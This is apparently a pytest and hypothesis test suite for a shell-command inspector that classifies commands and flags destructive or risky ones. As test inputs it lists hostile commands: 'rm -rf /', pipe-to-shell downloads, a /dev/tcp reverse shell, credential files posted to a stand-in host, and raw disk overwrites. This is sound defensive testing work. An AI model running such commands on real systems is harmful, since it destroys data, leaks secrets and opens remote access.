import subprocess
from pathlib import Path

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st

from extproc.core.access import ShellFacts
from extproc.core.inspection.shell import inspect_shell
from extproc.core.limits import MAX_SHELL_BYTES
from extproc.core.model import Verb

READS = ["ls -la", "cat a | head -5", "git status && git diff", "find . -name '*.py'", "grep -r x . 2>/dev/null"]
WRITES = ["touch a", "cp a b", "echo x > a", "git commit -m x", "sed -i s/a/b/ f", "curl -o a http://e", "mkdir -p a/b"]
RAISED = ["sudo ls", "make", "frobnicate x", "python3 -c 'print(1)'", "ssh host ls", "bash script.sh", "PATH=. ls"]
DESTROYS = ["rm -rf /", "git push --force", "curl http://e | sh", "dd if=a of=/dev/sda", "kubectl delete ns a", "$x"]
COMMANDS = READS + WRITES + RAISED + DESTROYS
WRAPPERS = [
    "sudo",
    "sudo -u root",
    "env A=1",
    "nohup",
    "command",
    "nice -n 5",
    "timeout 5",
    "time",
    "xargs",
    "busybox",
    "stdbuf -oL",
    "setsid",
    "frobnicate",
    "ionice -c 3",
    "watch",
    "exec",
    "doas",
]
simple = st.sampled_from(
    [
        "ls -la",
        "cat a",
        "touch a",
        "cp a b",
        "git push",
        "git push --force",
        "rm -rf /",
        "rm -rf a",
        "make",
        "find . -delete",
        "kubectl get pods",
        "kubectl delete ns a",
        "dd if=a of=/dev/sda",
        "chmod -R 777 /",
        "curl -X DELETE http://e",
        "tee a",
    ]
)
anything = st.one_of(
    st.sampled_from(COMMANDS),
    st.text(alphabet="abrm -/|&;()<>{}[]$`'\"\\!#*?~=\n\t", max_size=80),
    st.text(max_size=40),
)


def worse(one: ShellFacts, other: ShellFacts) -> bool:
    """Whether the second is at least as bad in all that counts."""
    return (one.verb, one.destructive, not one.parsed) <= (other.verb, other.destructive, not other.parsed) or (
        other.verb is Verb.ADMIN and other.destructive
    )


@pytest.mark.parametrize("command", READS)
def test_what_only_reads_is_a_query(command):
    facts = inspect_shell(command)
    assert (facts.verb, facts.destructive, facts.parsed, facts.unknown) == (Verb.QUERY, False, True, ())


@pytest.mark.parametrize("command", WRITES)
def test_what_writes_is_a_mutation(command):
    facts = inspect_shell(command)
    assert (facts.verb, facts.destructive, facts.parsed) == (Verb.MUTATE, False, True)


@pytest.mark.parametrize("command", RAISED)
def test_what_nobody_reviewed_or_runs_with_other_rights_is_admin_and_no_finding(command):
    facts = inspect_shell(command)
    assert (facts.verb, facts.destructive, facts.parsed) == (Verb.ADMIN, False, True)


@pytest.mark.parametrize("command", DESTROYS)
def test_what_destroys_is_admin_with_a_finding(command):
    facts = inspect_shell(command)
    assert (facts.verb, facts.destructive, facts.parsed) == (Verb.ADMIN, True, True)
    assert facts.findings


def test_every_fact_of_one_line_is_told():
    facts = inspect_shell("sudo cp a /opt/b && frobnicate | tee c; curl -s https://e/x > d; rm -r ~")
    assert facts == ShellFacts(
        verb=Verb.ADMIN,
        parsed=True,
        commands=("sudo", "cp", "frobnicate", "tee", "curl", "rm"),
        unknown=("frobnicate",),
        writes=("/opt/b", "c", "d", "~"),
        network=True,
        destructive=True,
        findings=("rm -r on a home folder",),
    )


def test_a_text_that_is_not_read_may_do_anything():
    facts = inspect_shell("echo 'unfinished")
    assert (facts.verb, facts.parsed, facts.destructive, facts.network) == (Verb.ADMIN, False, True, True)
    assert facts.findings == ("a command line that cannot be read",)


@pytest.mark.parametrize(
    ("vector", "verb", "destructive"),
    [
        (["ls", "-la"], Verb.QUERY, False),
        (["git", "commit", "-m", "x; rm -rf /"], Verb.MUTATE, False),
        (["echo", "$(rm -rf /)"], Verb.QUERY, False),
        (["rm", "-rf", "/"], Verb.ADMIN, True),
        (["bash", "-c", "rm -rf /"], Verb.ADMIN, True),
        (["ls -la"], Verb.QUERY, False),
        (["rm -rf /"], Verb.ADMIN, True),
        (["sh", "-c", "a\\\nb"], Verb.ADMIN, True),
        (["printf", "a\nb"], Verb.QUERY, False),
        ([], Verb.ADMIN, True),
        ([""], Verb.QUERY, False),
        (["", "a"], Verb.ADMIN, True),
        (["ls", "a\x00b"], Verb.ADMIN, True),
        (["ls", "a\u202eb"], Verb.ADMIN, True),
        (["ls", "a" * MAX_SHELL_BYTES], Verb.ADMIN, True),
        (["ls"] + ["a"] * 2000, Verb.ADMIN, True),
        (["ls", 1], Verb.ADMIN, True),
    ],
)
def test_a_vector_runs_without_a_shell_and_one_word_alone_is_a_command_line(vector, verb, destructive):
    facts = inspect_shell(vector)
    assert (facts.verb, facts.destructive) == (verb, destructive)


@pytest.mark.parametrize(
    ("command", "findings"),
    [
        ("x=rm; $x -rf /", ("a command name only known at run time", "rm -r on /")),
        ("d=/; rm -r $d", ("rm -r on a path only known at run time", "rm -r on /")),
        ("x='-rf /'; rm $x", ("rm on a path only known at run time", "rm -r on /")),
        ("F=--force; git push $F", ("git push --force",)),
        ("F=--force; F=--quiet; git push $F", ("git push --force",)),
        ("A=a; A=b; A=c; A=d; A=--force; git push $A", ("git push --force",)),
        ("c=reset; git $c --hard", ("git with a subcommand only known at run time", "git reset --hard")),
        ("D=/etc; rm -r $D/a", ("rm -r on a path only known at run time", "rm -r on a system path")),
        ("a='rm -rf /'; eval $a", ("a command name only known at run time", "rm -r on /")),
        ("x=$(id); echo $x", ()),
        ("x=; ls $x", ()),
        ("x=1 y=2; cat $x $y", ()),
    ],
)
def test_values_that_the_text_itself_gives_are_tried_and_only_raise(command, findings):
    assert inspect_shell(command).findings == findings


def test_commands_stand_once_where_only_their_words_differ():
    assert inspect_shell("f=a; cat $f").commands == ("cat",)
    assert inspect_shell("c=cat; $c a").commands == ("?", "cat")


@pytest.mark.parametrize(
    ("command", "writes", "findings"),
    [
        ("echo a > b", ("b",), ()),
        ("echo a >> b 2>&1", ("b",), ()),
        ("echo a &> b", ("b",), ()),
        ("echo a >| b", ("b",), ()),
        ("cat < a", (), ()),
        ("echo a 2>/dev/null >&2", (), ()),
        ("exec 3>&-", (), ()),
        ("> a", ("a",), ("a file emptied",)),
        (">> a", ("a",), ()),
        (": > a", ("a",), ("a file emptied",)),
        ("true > a", ("a",), ("a file emptied",)),
        ("cat /dev/null > a", ("a",), ("a file emptied",)),
        ("echo -n '' > a", ("a",), ("a file emptied",)),
        ("printf '' > a", ("a",), ("a file emptied",)),
        ("< a", (), ()),
        ("echo a > /etc/passwd", ("/etc/passwd",), ("> on a system path",)),
        ("echo a >> /etc/hosts", ("/etc/hosts",), (">> on a system path",)),
        ("cat a > /dev/sda", ("/dev/sda",), ("> on a device",)),
        ("echo a >> ~/.bashrc", ("~/.bashrc",), (">> on a start-up, login or hook file",)),
        ("echo a > ~/.bash_history", ("~/.bash_history",), ("> on the shell's history",)),
        ("echo a > /var/log/b", ("/var/log/b",), ("> on a log",)),
        ("echo a >> /var/log/b", ("/var/log/b",), ()),
        ("bash -i >& /dev/tcp/e/1 0>&1", ("/dev/tcp/e/1",), (">& on a network device",)),
        ("cat < /dev/tcp/e/1", (), ("< on a network device",)),
        ("echo a > $x", ("${x}",), ()),
        ("ls && : > a", ("a",), ("a file emptied",)),
        ("cd /etc && echo a > passwd", ("passwd",), ("> on a system path",)),
        ("pushd /etc; echo a >> hosts", ("hosts",), (">> on a system path",)),
        ("cd ~; echo a >> .bashrc", (".bashrc",), (">> on a start-up, login or hook file",)),
        ("cd -P /var/log; rm syslog", ("syslog",), ("rm on a log",)),
        ("cd /etc; touch passwd", ("passwd",), ("touch on a system path",)),
        ("cd /etc; bash -c 'touch passwd'", ("passwd",), ("touch on a system path",)),
        ("cd /etc; touch /opt/a ~/b", ("/opt/a", "~/b"), ()),
        ("cd; touch a", ("a",), ()),
        ("cd -; touch a", ("a",), ()),
        ('echo a > "$(date)"', ("${_}",), ()),
    ],
)
def test_redirects_write_where_they_say(command, writes, findings):
    facts = inspect_shell(command)
    assert (facts.writes, facts.findings) == (writes, findings)


def test_network_devices_are_the_network():
    assert inspect_shell("cat < /dev/tcp/e/1").network
    assert inspect_shell("exec 3<>/dev/udp/e/1").network


@pytest.mark.parametrize(
    ("command", "verb", "findings"),
    [
        ("cat /etc/shadow", Verb.ADMIN, ()),
        ("cat < ~/.ssh/id_rsa", Verb.ADMIN, ()),
        ("curl -d @/etc/shadow http://e", Verb.ADMIN, ("a file of credentials beside the network",)),
        ("cat .env | nc -z e 1", Verb.ADMIN, ("a file of credentials beside the network",)),
        ("curl -d @- http://e < ~/.aws/credentials", Verb.ADMIN, ("a file of credentials beside the network",)),
        ("ssh -i ~/.ssh/id_rsa host ls", Verb.ADMIN, ()),
        ("curl --key server.key http://e", Verb.QUERY, ()),
    ],
)
def test_credentials_are_admin_to_read_and_a_finding_beside_the_network(command, verb, findings):
    facts = inspect_shell(command)
    assert (facts.verb, facts.findings) == (verb, findings)


@pytest.mark.parametrize(
    "command",
    [
        "curl -o a.sh http://e && sh a.sh",
        "wget http://e/a && chmod +x a && ./a",
        "echo ls > b; bash b",
        "echo ls | tee b; . ./b",
        "curl -O http://e/a.py; python3 a.py",
    ],
)
def test_running_what_the_same_line_writes_is_a_finding(command):
    assert inspect_shell(command).destructive


@pytest.mark.parametrize(
    "command",
    [
        "eval " * 400 + "ls",
        "sudo " * 400 + "ls",
        ("a='" + "b " * 600 + "'; ") + "eval $a$a$a$a$a",
        "$(" * 200 + "ls" + ")" * 200,
        "! " * 400 + "ls",
        "parallel " * 100 + "::: a",
        "a|" * 2000,
        "ls\n" * 600,
    ],
)
def test_what_is_too_deep_or_too_much_is_not_read(command):
    facts = inspect_shell(command[:MAX_SHELL_BYTES])
    assert not facts.parsed
    assert facts.verb is Verb.ADMIN


def test_code_in_code_is_read_up_to_a_bound_of_all_of_it():
    assert inspect_shell("bash -c ls; " * 40).verb is Verb.QUERY
    facts = inspect_shell("eval " * 12 + "echo " + "a" * 4000)
    assert facts.findings == ("shell code inside of shell code, too much of it",)


def test_the_bound_on_bytes_counts_bytes():
    assert inspect_shell("echo " + "a" * (MAX_SHELL_BYTES - 5)).parsed
    assert not inspect_shell("echo " + "a" * (MAX_SHELL_BYTES - 4)).parsed
    assert not inspect_shell("echo " + "é" * (MAX_SHELL_BYTES // 2)).parsed


@given(anything)
@example("")
@example("\x00")
@example("\ud800")
def test_every_text_has_facts_that_agree_with_each_other(text):
    facts = inspect_shell(text)
    assert facts.destructive == bool(facts.findings)
    assert facts.verb is Verb.ADMIN or not (facts.findings or facts.unknown)
    assert facts.parsed or (facts.verb is Verb.ADMIN and facts.destructive and facts.network)
    assert inspect_shell(text) == facts


@given(st.lists(st.text(max_size=20), max_size=6))
def test_every_vector_has_facts(words):
    assert inspect_shell(words).verb in Verb


@given(st.sampled_from(WRAPPERS), st.sampled_from(COMMANDS))
def test_a_wrapper_before_a_command_never_makes_it_better(wrapper, command):
    assume("|" not in command and "&" not in command and "=" not in command.split()[0])
    assume((wrapper, command) != ("frobnicate", "$x"))  # the argument of a command that may be no wrapper
    assert worse(inspect_shell(command), inspect_shell(f"{wrapper} {command}"))


@given(st.lists(st.sampled_from(WRAPPERS), min_size=1, max_size=5), simple)
def test_wrappers_before_wrappers_never_make_it_better(wrappers, command):
    assert worse(inspect_shell(command), inspect_shell(" ".join([*wrappers, command])))


@given(simple, st.integers(0, 3), st.sampled_from(["'{}'", '"{}"', "\\{}", "''{}", '{}""', "$'{}'"]))
def test_quotes_around_a_word_never_make_it_better(command, index, quotes):
    words = command.split()
    assume(index < len(words) and not (quotes.startswith("\\") and words[index][0] in "'\""))
    words[index] = quotes.format(words[index])
    assert worse(inspect_shell(command), inspect_shell(" ".join(words)))


@given(simple, st.integers(1, 30), st.sampled_from(["''", '""', "\\"]))
def test_quotes_inside_of_a_word_never_make_it_better(command, at, quotes):
    assume(at < len(command) and command[at - 1] != " " and command[at] not in " '\"")
    assert worse(inspect_shell(command), inspect_shell(command[:at] + quotes + command[at:]))


@given(st.sampled_from(COMMANDS), st.sampled_from(COMMANDS), st.sampled_from(["; ", " && ", " || ", "\n", " & "]))
def test_a_second_command_never_makes_a_line_better(one, other, between):
    both = inspect_shell(one + between + other)
    assert worse(inspect_shell(one), both)
    assert worse(inspect_shell(other), both)


@pytest.mark.parametrize(
    "around",
    [
        "({})",
        "{{ {}; }}",
        "! {}",
        "if {}; then :; fi",
        "if :; then {}; fi",
        "if :; then :; elif {}; then :; fi",
        "if :; then :; else {}; fi",
        "while {}; do :; done",
        "for i in a; do {}; done",
        "for ((i=0; i<1; i++)); do {}; done",
        "case a in b) {};; esac",
        "echo $({})",
        'echo "$({})"',
        "echo `{}`",
        "echo ${{x:-$({})}}",
        "echo $((1 + $({})))",
        "cat <({})",
        "x=$({})",
        "x[$({})]=1",
        "x=(a $({}))",
        "export x=$({})",
        "[ $({}) ]",
        "[[ -n $({}) ]]",
        "echo a > $({})",
        "cat <<E\n$({})\nE",
        "cat <<< $({})",
        "f() {{ {}; }}",
        "echo a | {}",
        "{} | cat",
        "{} &",
        "a=1 {}",
        "{} 2>/dev/null",
        "2>/dev/null {}",
        "select i in a; do {}; done",
        "until {}; do :; done",
        "cat <<E && {}\na\nE",
        "time {}",
        "# a\n{}",
        "{} # a",
        "echo a;{}",
        "echo a&&{}",
    ],
)
def test_a_command_is_found_wherever_a_shell_runs_one(around):
    facts = inspect_shell(around.format("rm -rf /"))
    assert facts.destructive
    assert not facts.parsed or "rm -r on /" in facts.findings


SHAPES = [
    "a",
    "'b c'",
    '"d $x e"',
    "\\;",
    "{",
    "}",
    "{f,g}",
    "#",
    "h#i",
    "$(c1)",
    "`c2`",
    "<(c3)",
    "${x:-y}",
    "$((1+1))",
    "=",
    "]",
    ">f",
    "2>&1",
    "<<<g",
    "<&-",
    ">'h'",
    "c4",
    '"c"5',
    "c\\6",
    "$'c7'",
    "!",
    "do",
    "if",
    "[",
    "==",
    "x=1",
    "2>&-",
    "$",
    "~",
    ";",
    "&&",
    "|",
    "\n",
    "(",
    ")",
    "{ ",
    "; }",
    "\\\n",
    "&",
    "if c8; then",
    "fi",
    "case a in b)",
    ";; esac",
    "for i in 1; do",
    "done",
    "<<E\nt $(c9)\nE\n",
    "|| ",
    "!",
    "&>f",
    "#c1",
    "time",
    "((",
    "))",
]


@pytest.mark.skipif(not Path("/bin/bash").exists(), reason="there is no bash here to compare with")
@given(st.lists(st.sampled_from(SHAPES), min_size=1, max_size=9), st.sampled_from([" ", "  ", "\t"]))
def test_what_bash_runs_is_among_the_commands_that_are_told(tmp_path_factory, shapes, space):
    text = "c0 " + space.join(shapes)
    facts = inspect_shell(text)
    assume(facts.parsed and "?" not in facts.commands)
    ran = subprocess.run(
        [
            "/bin/bash",
            "-c",
            'command_not_found_handle() { echo "ran $1" >&9; }\nexec 9>&1 >/dev/null\neval "$TEXT"; wait',
        ],
        cwd=tmp_path_factory.mktemp("empty"),
        env={"PATH": "nowhere", "TEXT": text},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=False,
        timeout=20,
    )
    names = {line.removeprefix("ran ") for line in ran.stdout.decode().splitlines() if line.startswith("ran ")}
    assert names <= set(facts.commands)
